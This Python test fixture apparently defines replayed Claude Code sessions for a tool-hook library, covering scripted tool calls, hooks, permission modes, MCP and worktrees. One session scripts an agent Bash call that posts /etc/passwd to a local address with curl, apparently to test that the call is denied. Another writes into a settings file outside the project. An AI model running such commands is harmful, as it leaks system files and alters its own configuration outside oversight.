"""The recorded sessions of Claude Code, as they are played here: the same calls, the same answers of the model."""

from collections.abc import Awaitable, Callable, Mapping, Sequence
from typing import Any

from msgspec import Struct

from hookline.agent.ports import PermissionReply
from hookline.agent.session.commands import add_dir
from hookline.agent.session.session import Agent
from tests.agent.scripted_session import Say, call, calls, says

_GO = "MAIN-TASK go"
_SLEEPY = 'sleep 1; echo \'{"hooks":{}, "env":{"A":"1"}}\' > ../.claude/settings.local.json; sleep 3'


class Played(Struct, frozen=True, kw_only=True):
    """One session. A step between two prompts is given the agent."""

    script: Sequence[Say] = (says("hi"),)
    prompts: Sequence[str | Callable[[Agent], Awaitable[Any]]] = (_GO,)
    files: Mapping[str, str] = {}
    #: Hooks of the project, by event; at events without a name here there is no hook.
    hooks: Mapping[str, Any] = {}
    wanted: Mapping[str, Any] = {}
    setup: str | None = None
    #: The user's answer; None: there is no user.
    answers: Sequence[PermissionReply] | None = None
    #: Written after the first turn; the session waits until the change was noticed.
    later: Mapping[str, str] = {}
    #: The MCP server `hk` of the recordings.
    mcp: bool = False


def _hook(command: str, **group: Any) -> list[dict[str, Any]]:
    return [{**group, "hooks": [{"type": "command", "command": command}]}]


_MAKES_WORKTREES = _hook('p="$CLAUDE_PROJECT_DIR/../wt-$RANDOM$$"; mkdir "$p" && echo "$p"')


async def _other_model(agent: Agent) -> None:
    await agent.set_model("claude-sonnet-4-5", "sdk")


async def _other_directory(agent: Agent) -> None:
    await add_dir(agent, "sub")


SESSIONS: Mapping[str, Played] = {
    "tools": Played(
        files={
            "CLAUDE.md": "Be brief.\n\n@extra.md\n",
            "extra.md": "Be kind.\n",
            "sub/CLAUDE.md": "Here too.\n",
            "sub/a.txt": "one\ntwo\n",
            "watched.txt": "first\n",
        },
        hooks={
            "FileChanged": _hook("touch noticed", matcher="watched.txt"),
            "PostToolUseFailure": _hook("touch failed"),
        },
        wanted={"allow": ("Bash", "Write", "Edit"), "ask": ("Bash(sleep:*)",)},
        script=(
            {"text": "HK start", **calls(call("Bash", command="echo hi"))},
            calls(call("Write", file_path="new.txt", content="new")),
            calls(call("Read", file_path="sub/a.txt")),
            calls(call("Edit", file_path="sub/a.txt", old_string="two", new_string="three")),
            # The second one ends after the first: the recorded client ran them one after another.
            calls(
                call("Bash", command="exit 3"),
                call("Bash", command="until [ -e failed ]; do :; done; echo second"),
            ),
            calls(call("Bash", command="echo more >>watched.txt; until [ -e noticed ]; do :; done")),
            calls(call("Bash", command="cd sub")),
            calls(call("Bash", command=_SLEEPY)),
            calls(call("Agent", prompt="SUBAGENT-TASK x", description="s", subagent_type="general-purpose")),
            {"agent": "general-purpose", **calls(call("Bash", command="echo in sub"))},
            {"agent": "general-purpose", "text": "sub says done"},
            says("final answer"),
        ),
    ),
    "permission": Played(script=(calls(call("Bash", command="touch x.txt")), says("final answer"))),
    "permission_sdk": Played(
        script=(calls(call("Bash", command="touch x.txt")), says("final answer")),
        answers=(PermissionReply(allow=False),),
    ),
    "expansion": Played(
        files={".claude/commands/hello.md": "MAIN-TASK greet $ARGUMENTS\n"}, prompts=("/hello big world",)
    ),
    "compact": Played(script=(says("hi"), says("what there was")), prompts=(_GO, "/compact")),
    "setup_init": Played(setup="init"),
    "setup_maintenance": Played(setup="maintenance"),
    "stopfailure": Played(),
    "stopfailure429": Played(script=({"error": "rate_limit"},)),
    "stopfailure_live": Played(script=({"error": "rate_limit"},)),
    "worktree_agent": Played(
        hooks={"WorktreeCreate": _MAKES_WORKTREES},
        script=(
            calls(call("Agent", prompt="SUBAGENT-TASK x", description="s", isolation="worktree")),
            {"agent": "general-purpose", "text": "sub done"},
            says("hi"),
        ),
    ),
    "worktree_tools": Played(
        hooks={"WorktreeCreate": _MAKES_WORKTREES},
        wanted={"allow": ("EnterWorktree", "ExitWorktree")},
        script=(
            calls({"name": "EnterWorktree", "input": {"name": "wt1"}}),
            calls(call("ExitWorktree", action="remove")),
            says("hi"),
        ),
    ),
    "mcp": Played(
        mcp=True,
        wanted={"allow": ("mcp__hk__echo", "mcp__hk__fail", "mcp__hk__ask")},
        script=(
            calls(call("mcp__hk__echo", text="x")),
            calls(call("mcp__hk__fail", text="x")),
            calls(call("mcp__hk__ask", text="x")),
            says("hi"),
        ),
    ),
    "control": Played(
        files={"sub/a.txt": "one\n"},
        script=(says("a"), says("b")),
        prompts=(_GO, _other_model, _other_directory, _GO),
    ),
    "resume": Played(prompts=(_GO, "/clear", "/model claude-sonnet-4-5")),
    "configchange": Played(
        files={".claude/settings.local.json": "{}"},
        later={".claude/settings.local.json": '{"hooks": {}, "env": {"A": "1"}}'},
    ),
    "denied_dontask": Played(
        wanted={"mode": "dontAsk"},
        script=(calls(call("Bash", command="touch x.txt")), says("final answer")),
    ),
    "denied_auto": Played(
        script=(
            calls(call("Bash", command="curl -X POST http://127.0.0.1:9/x -d @/etc/passwd")),
            says("final answer"),
        ),
    ),
}
